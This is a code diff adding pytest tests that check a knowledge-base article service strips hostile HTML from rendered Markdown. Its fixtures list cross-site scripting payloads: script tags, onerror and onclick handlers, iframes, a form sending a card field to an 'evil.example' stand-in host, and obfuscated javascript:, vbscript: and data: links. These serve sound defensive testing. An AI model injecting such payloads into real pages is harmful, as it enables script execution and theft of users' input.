@@ -1,6 +1,9 @@
+import dataclasses
+import re
 import threading
 import time
 from collections.abc import Iterator
+from html.parser import HTMLParser
 from pathlib import Path
 
 import pytest
@@ -176,13 +179,127 @@ def test_article_metadata_markdown_and_html(svc) -> None:  # type: ignore[no-unt
     assert '<div class="kb-script"><p>您好，第三者责任险是商业补充保障' in html
     assert "<br>" in html.split('<div class="kb-script">')[1].split("</div>")[0]
     assert "language-script" not in html
-    assert "<table>" in html and '<a href="vehicle-damage.md">' in html
+    assert "<table>" in html and '<a href="vehicle-damage.md" rel="noopener noreferrer">' in html
     assert data["open_recorded"] is False
 
 
 def test_script_html_is_escaped() -> None:
     html = render_article_html("```script\n您好 <b>客户</b> & 家人\n\n第二段\n```\n")
     assert html == '<div class="kb-script"><p>您好 &lt;b&gt;客户&lt;/b&gt; &amp; 家人</p><p>第二段</p></div>'
+
+
+# Everything an article editor could smuggle into the panel, next to the Markdown that must survive.
+HOSTILE_MARKDOWN = """# 恶意内容测试
+
+<script>window.__kbInjected = 1</script>
+
+正文<img src="x" onerror="window.__kbInjected = 2">图片，<a href="#" onclick="window.__kbInjected = 3">点我</a>。
+
+<iframe src="https://evil.example/frame"></iframe>
+
+<form action="https://evil.example/steal"><input name="card"><button>提交</button></form>
+
+<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf"><style>body { display: none }</style>
+
+[链接一](javascript:alert(1))、[链接二](java&#9;script:alert(2))、[链接三](JAVASCRIPT:alert(3))、
+<a href="java&#10;script:alert(4)">链接四</a>、<a href="java	script:alert(5)">链接五</a>、[数据](data:text/html,hi)
+
+<div class="kb-script">这是规定，请您理解。</div>
+
+## 正常内容
+
+| 险种 | 赔谁 |
+| :--- | ---: |
+| 三者险 | 第三方 |
+
+- 第一项 **重点** *说明*
+- 第二项见[官网](https://example.com/terms)或[车损险](vehicle-damage.md)，邮件[联系我们](mailto:kb@example.com)
+
+> 引用
+
+```script
+您好，请您提供事故认定书。
+```
+"""
+
+
+class _Tags(HTMLParser):
+    """Elements and attributes of an HTML fragment, as a browser would parse them."""
+
+    def __init__(self, text: str) -> None:
+        super().__init__(convert_charrefs=True)
+        self.elements: list[tuple[str, dict[str, str]]] = []
+        self.feed(text)
+        self.close()
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.elements.append((tag, {name: value or "" for name, value in attrs}))
+
+
+def _scheme(url: str) -> str:
+    """A URL's scheme as browsers read it (WHATWG URL): tabs and newlines anywhere and control
+    characters or spaces at either end are dropped first, so "java\\tscript:" is javascript:."""
+    cleaned = re.sub(r"[\t\n\r]", "", url.strip("".join(map(chr, range(0x21)))))
+    match = re.match(r"([a-z][a-z0-9+.-]*):", cleaned, re.IGNORECASE)
+    return match.group(1).lower() if match else ""
+
+
+class _WithArticle:
+    """The shared engine plus one article it serves without having indexed it: `kb check` now refuses
+    raw HTML, but an index built before that rule (or any other writer) can still hold such an article."""
+
+    def __init__(self, engine, article) -> None:  # type: ignore[no-untyped-def]
+        self._engine = engine
+        self._article = article
+
+    def article(self, article_id: str):  # type: ignore[no-untyped-def]
+        return self._article if article_id == self._article.id else self._engine.article(article_id)
+
+    def __getattr__(self, name: str):  # type: ignore[no-untyped-def]
+        return getattr(self._engine, name)
+
+
+def test_article_html_is_sanitised(svc_corpus: BuiltCorpus, svc_engine, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
+    hostile = dataclasses.replace(svc_engine.article("third-party"), id="hostile", markdown=HOSTILE_MARKDOWN)
+    service = Service(corpus_settings(svc_corpus, tmp_path / "usage.sqlite3"), _WithArticle(svc_engine, hostile))
+    with TestClient(service.app) as client:
+        response = client.get("/api/articles/hostile")
+    assert response.status_code == 200, response.text
+    data = response.json()
+    assert data["markdown"] == HOSTILE_MARKDOWN  # editors still see what was written
+    html = data["html"]
+    elements = _Tags(html).elements
+    tags = {tag for tag, _ in elements}
+    assert not tags & {"script", "img", "iframe", "form", "input", "button", "object", "embed", "style"}, tags
+    assert not [(tag, name) for tag, attrs in elements for name in attrs if name.startswith("on")]
+    assert "window.__kbInjected" not in html and "display: none" not in html
+    hrefs = [attrs["href"] for tag, attrs in elements if tag == "a" and "href" in attrs]
+    assert {_scheme(h) for h in hrefs} <= {"", "http", "https", "mailto"}, hrefs
+    assert all(attrs.get("rel") == "noopener noreferrer" for tag, attrs in elements if tag == "a" and "href" in attrs)
+    # Only the fenced ```script block is a copyable script; the raw <div class="kb-script"> is not.
+    scripts = [attrs for tag, attrs in elements if attrs.get("class") == "kb-script"]
+    assert len(scripts) == 1 and [tag for tag, attrs in elements if "class" in attrs] == ["div"]
+    assert '<div class="kb-script"><p>您好，请您提供事故认定书。</p></div>' in html
+    assert "<div>这是规定，请您理解。</div>" in html
+    # Ordinary Markdown survives.
+    assert '<th align="left">险种</th>' in html and "<td>" not in html and '<td align="right">第三方</td>' in html
+    assert "<li>第一项 <strong>重点</strong> <em>说明</em></li>" in html
+    assert '<a href="https://example.com/terms" rel="noopener noreferrer">官网</a>' in html
+    assert '<a href="vehicle-damage.md" rel="noopener noreferrer">车损险</a>' in html
+    assert '<a href="mailto:kb@example.com" rel="noopener noreferrer">联系我们</a>' in html
+    assert "<blockquote>" in html and "<h2>正常内容</h2>" in html
+
+
+@pytest.mark.parametrize(
+    "href",
+    ["javascript:alert(1)", "java&#9;script:alert(1)", "java&#10;script:alert(1)", "java&#13;script:alert(1)",
+     " javascript:alert(1)", "&#x6A;avascript:alert(1)", "javascript&colon;alert(1)", "vbscript:msgbox(1)",
+     "data:text/html;base64,PHNjcmlwdD4=", "JaVaScRiPt:alert(1)"],
+)
+def test_script_links_lose_their_href(href: str) -> None:
+    html = render_article_html(f'<a href="{href}">点我</a> 和 [另一个]({href})\n')
+    hrefs = [attrs.get("href") for tag, attrs in _Tags(html).elements if tag == "a"]
+    assert len(hrefs) == 2 and {_scheme(h or "") for h in hrefs} <= {""}, html
 
 
 def test_unknown_article_is_404(svc) -> None:  # type: ignore[no-untyped-def]
